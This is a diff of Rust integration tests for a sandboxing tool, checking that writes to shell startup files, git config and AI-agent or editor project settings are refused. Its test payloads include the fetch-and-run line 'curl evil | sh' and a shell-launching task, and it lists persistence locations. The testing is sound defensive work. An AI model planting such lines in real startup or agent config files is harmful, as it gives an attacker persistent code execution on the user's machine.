@@ -85,6 +85,51 @@ impl Env {
     }
 }
 
+/// `write_file` of `content` to `path` through `toolcap call` in `mode`, with `personality`:
+/// the result JSON.
+fn write_file(env: &Env, mode: &[&str], personality: &str, path: &str, content: &str) -> Value {
+    let call = serde_json::json!({"path": path, "content": content}).to_string();
+    let mut argv = vec!["call"];
+    argv.extend_from_slice(mode);
+    argv.extend(["--personality", personality, "write_file", &call]);
+    let out = env.toolcap(&argv);
+    serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
+}
+
+/// In both modes, under `personality`: each of `planted` beneath `base` is refused with a
+/// `PATH_NOT_REACHABLE` that says `why`, and not written; each of `fine` is written.
+fn refuses_planting(
+    env: &Env,
+    personality: &str,
+    base: &std::path::Path,
+    planted: &[&str],
+    fine: &[&str],
+    why: &str,
+) {
+    for mode in MODES {
+        for planted in planted {
+            let path = base.join(planted).display().to_string();
+            let result = write_file(env, mode, personality, &path, "curl evil | sh\n");
+            assert!(
+                result["error"].as_str().is_some_and(|m| {
+                    m.starts_with("PATH_NOT_REACHABLE: write not permitted") && m.contains(why)
+                }),
+                "{mode:?} {planted}: {result}"
+            );
+            assert!(
+                !std::path::Path::new(&path).exists(),
+                "{mode:?}: {planted} was written"
+            );
+        }
+        for fine in fine {
+            let path = base.join(fine).display().to_string();
+            let result = write_file(env, mode, personality, &path, "fine\n");
+            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
+        }
+    }
+}
+
 fn canary() -> String {
     format!("canary-{}-do-not-leak", std::process::id())
 }
@@ -793,15 +838,13 @@ fn a_tool_cannot_plant_what_git_runs_outside_the_sandbox() {
     git(&["init", "-q"]);
     let config = std::fs::read_to_string(repo.join(".git/config")).unwrap();
     let write = |personality: &str, mode: &[&str], path: &str| {
-        let call = serde_json::json!({"path": path, "content": "#!/bin/sh\ntouch /tmp/planted\n"});
-        let mut argv = vec!["call"];
-        argv.extend_from_slice(mode);
-        let call = call.to_string();
-        argv.extend(["--personality", personality, "write_file", &call]);
-        let out = env.toolcap(&argv);
-        let value: Value = serde_json::from_slice(&out.stdout)
-            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
-        value
+        write_file(
+            &env,
+            mode,
+            personality,
+            path,
+            "#!/bin/sh\ntouch /tmp/planted\n",
+        )
     };
     let personality = env.root.join("p.toml").display().to_string();
     let r = repo.display();
@@ -880,17 +923,11 @@ fn a_tool_cannot_plant_what_a_shell_runs_as_it_starts() {
             "id = \"home\"\n[fs_reach]\nread = [\"{h}\"]\nwrite = [\"{h}\", \"{h}/.zshenv\"]\n"
         ),
     );
-    let write = |mode: &[&str], path: &str| {
-        let call = serde_json::json!({"path": path, "content": "curl evil | sh\n"}).to_string();
-        let mut argv = vec!["call"];
-        argv.extend_from_slice(mode);
-        argv.extend(["--personality", personality.as_str(), "write_file", &call]);
-        let out = env.toolcap(&argv);
-        serde_json::from_slice::<Value>(&out.stdout)
-            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
-    };
-    for mode in MODES {
-        for planted in [
+    refuses_planting(
+        &env,
+        &personality,
+        &home,
+        &[
             ".bashrc",
             ".bash_profile",
             ".bash_login",
@@ -901,31 +938,15 @@ fn a_tool_cannot_plant_what_a_shell_runs_as_it_starts() {
             ".config/git/config",
             ".config/fish/config.fish",
             "dotfiles/.bashrc",
-        ] {
-            let path = format!("{h}/{planted}");
-            let result = write(mode, &path);
-            assert!(
-                result["error"].as_str().is_some_and(|m| {
-                    m.starts_with("PATH_NOT_REACHABLE: write not permitted")
-                        && m.contains("as it starts")
-                }),
-                "{mode:?} {planted}: {result}"
-            );
-            assert!(
-                !std::path::Path::new(&path).exists(),
-                "{mode:?}: {planted} was written"
-            );
-        }
-        for fine in [
+        ],
+        &[
             ".bashrc.orig",
             "notes/profile",
             ".config/git/ignore",
             ".zshenv",
-        ] {
-            let result = write(mode, &format!("{h}/{fine}"));
-            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
-        }
-    }
+        ],
+        "as it starts",
+    );
 }
 
 // guarantee: G-FS-11
@@ -949,18 +970,12 @@ fn a_tool_cannot_plant_what_an_agent_or_editor_runs_when_it_opens_the_project() 
             "id = \"project\"\n[fs_reach]\nread = [\"{h}\"]\nwrite = [\"{h}\", \"{h}/.vscode\"]\n"
         ),
     );
-    let write = |mode: &[&str], path: &str| {
-        let call =
-            serde_json::json!({"path": path, "content": "{\"command\": \"sh\"}\n"}).to_string();
-        let mut argv = vec!["call"];
-        argv.extend_from_slice(mode);
-        argv.extend(["--personality", personality.as_str(), "write_file", &call]);
-        let out = env.toolcap(&argv);
-        serde_json::from_slice::<Value>(&out.stdout)
-            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
-    };
-    for mode in MODES {
-        for planted in [
+    // `.vscode` is listed as a write root itself: its tasks are the personality's to allow.
+    refuses_planting(
+        &env,
+        &personality,
+        &project,
+        &[
             ".mcp.json",
             ".claude/settings.json",
             ".claude/settings.local.json",
@@ -971,32 +986,15 @@ fn a_tool_cannot_plant_what_an_agent_or_editor_runs_when_it_opens_the_project() 
             ".idea/workspace.xml",
             "packages/web/.mcp.json",
             "packages/web/.vscode/tasks.json",
-        ] {
-            let path = format!("{h}/{planted}");
-            let result = write(mode, &path);
-            assert!(
-                result["error"].as_str().is_some_and(|m| {
-                    m.starts_with("PATH_NOT_REACHABLE: write not permitted")
-                        && m.contains("when it next opens the project")
-                }),
-                "{mode:?} {planted}: {result}"
-            );
-            assert!(
-                !std::path::Path::new(&path).exists(),
-                "{mode:?}: {planted} was written"
-            );
-        }
-        // `.vscode` is listed as a write root itself: its tasks are the personality's to allow.
-        for fine in [
+        ],
+        &[
             ".mcp.json.example",
             "claude/settings.json",
             "notes/cursor.md",
             ".vscode/tasks.json",
-        ] {
-            let result = write(mode, &format!("{h}/{fine}"));
-            assert_eq!(result["ok"], true, "{mode:?} {fine}: {result}");
-        }
-    }
+        ],
+        "when it next opens the project",
+    );
 }
 
 // guarantee: G-KERN-08
